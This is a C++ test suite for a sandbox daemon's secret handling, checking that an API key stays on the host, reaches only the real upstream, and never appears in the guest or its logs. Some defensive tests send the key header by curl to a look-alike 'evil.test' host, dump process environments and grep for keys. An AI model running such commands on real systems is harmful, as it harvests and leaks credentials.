// Secrets from a real guest: the key stays on the host. The guest's curl
// talks through sandboxd's proxy to a fake HTTPS upstream on the host's
// loopback, reached as api.anthropic.com through the test-only upstream
// override; the upstream must receive the real key, the guest must see a
// chain it verifies, and the key must be nowhere in the guest, the daemon's
// log or the network log.
#include <gtest/gtest.h>
#include <openssl/ssl.h>
#include <sys/socket.h>
#include <sys/stat.h>

#include <mutex>

#include "base/files.h"
#include "harness/sandbox_suite.h"
#include "net/cert_authority.h"
#include "net/tls_sni.h"
#include "support/loopback_server.h"

namespace sbx::testing {
namespace {

const char* kEnvKey = "sk-ant-api03-HOSTENV-7f3a9c1e5b";
const char* kStoredKey = "sk-ant-api03-STORED-2d8e4b6a0c";

// A TLS server on loopback with its own CA: a leaf for whatever SNI asks.
class FakeUpstream {
 public:
  FakeUpstream() {
    auto dir = TempDir::create("upstream-ca");
    if (dir) dir_ = std::make_unique<TempDir>(std::move(*dir));
    auto ca = net::CertAuthority::load_or_create(dir_->path());
    if (ca) ca_ = std::move(*ca);
    server_ = std::make_unique<LoopbackServer>([this](int fd) { serve(fd); });
  }
  uint16_t port() const { return server_->port(); }
  std::string ca_file() const { return ca_->ca_cert_path(); }
  std::vector<std::string> heads() {
    std::lock_guard l(mu_);
    return heads_;
  }
  void clear() {
    std::lock_guard l(mu_);
    heads_.clear();
  }

 private:
  void serve(int fd) {
    char peek[16384];
    ssize_t n = ::recv(fd, peek, sizeof peek, MSG_PEEK);
    if (n <= 0) return;
    auto sni = net::extract_sni(std::string_view(peek, static_cast<size_t>(n)));
    auto ctx = ca_->server_context(sni.status == net::SniStatus::kFound ? sni.host : "localhost");
    if (!ctx) return;
    SSL* ssl = SSL_new(ctx->get());
    SSL_set_fd(ssl, fd);
    if (SSL_accept(ssl) == 1) {
      std::string buf;
      char tmp[4096];
      while (buf.find("\r\n\r\n") == std::string::npos) {
        int r = SSL_read(ssl, tmp, sizeof tmp);
        if (r <= 0) break;
        buf.append(tmp, static_cast<size_t>(r));
      }
      {
        std::lock_guard l(mu_);
        heads_.push_back(buf);
      }
      std::string resp =
          "HTTP/1.1 200 OK\r\nContent-Length: 9\r\nConnection: close\r\n\r\nupstream\n";
      SSL_write(ssl, resp.data(), static_cast<int>(resp.size()));
      SSL_shutdown(ssl);
    }
    SSL_free(ssl);
  }

  std::unique_ptr<TempDir> dir_;
  std::unique_ptr<net::CertAuthority> ca_;
  std::mutex mu_;
  std::vector<std::string> heads_;
  std::unique_ptr<LoopbackServer> server_;
};

FakeUpstream& upstream() {
  static FakeUpstream u;
  return u;
}

int mode_of(const std::string& p) {
  struct stat st {};
  if (::stat(p.c_str(), &st) != 0) return -1;
  return st.st_mode & 0777;
}

class Secrets : public SandboxSuite<Secrets> {
 public:
  static SandboxOptions options() {
    std::string to = "=127.0.0.1:" + std::to_string(upstream().port());
    return {.name = "sec",
            .workspace = "sec-ws",
            .create_flags = {"--memory", "768m"},
            .env = {{"SBX_TEST_UPSTREAM_OVERRIDE",
                     "api.anthropic.com:443" + to + ",api.anthropic.com.evil.test:443" + to},
                    // sandboxd verifies upstreams against this (the fake's CA).
                    {"SSL_CERT_FILE", upstream().ca_file()},
                    {"ANTHROPIC_API_KEY", kEnvKey}},
            .guest_user = ""};
  }
};

TEST_F(Secrets, GuestCurlVerifiesTheChainAndUpstreamGetsTheHostKey) {
  auto daemon_log = read_file(env().state_dir() + "/sandboxd.log");
  ASSERT_TRUE(daemon_log.ok());
  ASSERT_NE(daemon_log->find("the sbx CA is installed in the guest"), std::string::npos)
      << *daemon_log;
  upstream().clear();
  // No -k: the guest's system store must trust the sbx CA.
  auto r = guest(
      "curl -sS -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" "
      "https://api.anthropic.com/v1/models");
  EXPECT_EQ(r.code, 0) << r.all();
  EXPECT_EQ(r.out, "upstream\n") << r.all();
  auto heads = upstream().heads();
  ASSERT_EQ(heads.size(), 1u) << r.all();
  EXPECT_NE(heads[0].find(std::string("x-api-key: ") + kEnvKey + "\r\n"), std::string::npos)
      << heads[0];
  EXPECT_EQ(heads[0].find("proxy-managed"), std::string::npos) << heads[0];
}

TEST_F(Secrets, StoredSecretBeatsTheHostEnvironment) {
  auto set = sbx({"secret", "set", "-g", "anthropic"}, std::string(kStoredKey) + "\n");
  ASSERT_EQ(set.code, 0) << set.all();
  auto ls = sbx({"secret", "ls", "--json"});
  EXPECT_EQ(ls.code, 0) << ls.all();
  EXPECT_EQ(ls.out.find(kStoredKey), std::string::npos) << "ls printed a value";
  EXPECT_EQ(ls.out.find(kEnvKey), std::string::npos) << "ls printed a value";
  upstream().clear();
  auto r = guest("curl -sS -m 60 https://api.anthropic.com/v1/models");
  EXPECT_EQ(r.code, 0) << r.all();
  auto heads = upstream().heads();
  ASSERT_EQ(heads.size(), 1u);
  EXPECT_NE(heads[0].find(std::string("x-api-key: ") + kStoredKey), std::string::npos) << heads[0];
}

TEST_F(Secrets, TheKeyIsNotInTheGuest) {
  auto env = guest(
      "echo \"$ANTHROPIC_API_KEY\"; sudo sh -c \"cat /proc/[0-9]*/environ\" 2>/dev/null | tr '\\0' "
      "'\\n'");
  EXPECT_EQ(env.code, 0) << env.all();
  EXPECT_EQ(env.out.substr(0, 14), "proxy-managed\n") << env.out.substr(0, 200);
  for (const char* k : {kEnvKey, kStoredKey})
    EXPECT_EQ(env.out.find(k), std::string::npos) << "the key is in the guest's environment";
  auto files = guest(
      "sudo grep -rlF -e sk-ant-api03-HOSTENV -e sk-ant-api03-STORED /etc /root /home "
      "/tmp /var/tmp 2>/dev/null; true");
  EXPECT_EQ(files.out, "") << "the key is in guest files: " << files.out;
}

TEST_F(Secrets, LookAlikeHostGetsNoKey) {
  ASSERT_EQ(sbx({"policy", "allow", "network", "api.anthropic.com.evil.test"}).code, 0);
  upstream().clear();
  // Relayed untouched (the guest sees the upstream's own chain, hence -k).
  auto r = guest(
      "curl -sSk -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" "
      "https://api.anthropic.com.evil.test/");
  EXPECT_EQ(r.code, 0) << r.all();
  auto heads = upstream().heads();
  ASSERT_EQ(heads.size(), 1u) << r.all();
  EXPECT_NE(heads[0].find("x-api-key: proxy-managed"), std::string::npos) << heads[0];
  for (const char* k : {kEnvKey, kStoredKey}) EXPECT_EQ(heads[0].find(k), std::string::npos);
}

TEST_F(Secrets, HostMismatchIsRefusedInsideTheTunnel) {
  upstream().clear();
  auto r = guest("curl -sS -m 60 -H 'Host: other.example' https://api.anthropic.com/ ; true");
  EXPECT_NE(r.out.find("does not match"), std::string::npos) << r.all();
  EXPECT_TRUE(upstream().heads().empty());
}

TEST_F(Secrets, FileModesAndNoKeyInLogs) {
  std::string state = env().state_dir();
  EXPECT_EQ(mode_of(state + "/secrets"), 0700);
  EXPECT_EQ(mode_of(state + "/secrets/secrets.json"), 0600);
  EXPECT_EQ(mode_of(state + "/ca/ca-key.pem"), 0600);
  auto log = read_file(state + "/sandboxd.log");
  ASSERT_TRUE(log.ok());
  EXPECT_NE(log->find("TEST ONLY"), std::string::npos) << "the override was not logged";
  auto netlog = sbx({"policy", "log", "sec", "--json", "--limit", "1000"});
  EXPECT_EQ(netlog.code, 0) << netlog.all();
  EXPECT_NE(netlog.out.find("credential anthropic"), std::string::npos) << netlog.out;
  for (const char* k : {kEnvKey, kStoredKey}) {
    EXPECT_EQ(log->find(k), std::string::npos) << "key in sandboxd.log";
    EXPECT_EQ(netlog.out.find(k), std::string::npos) << "key in the network log";
  }
}

}  // namespace
}  // namespace sbx::testing
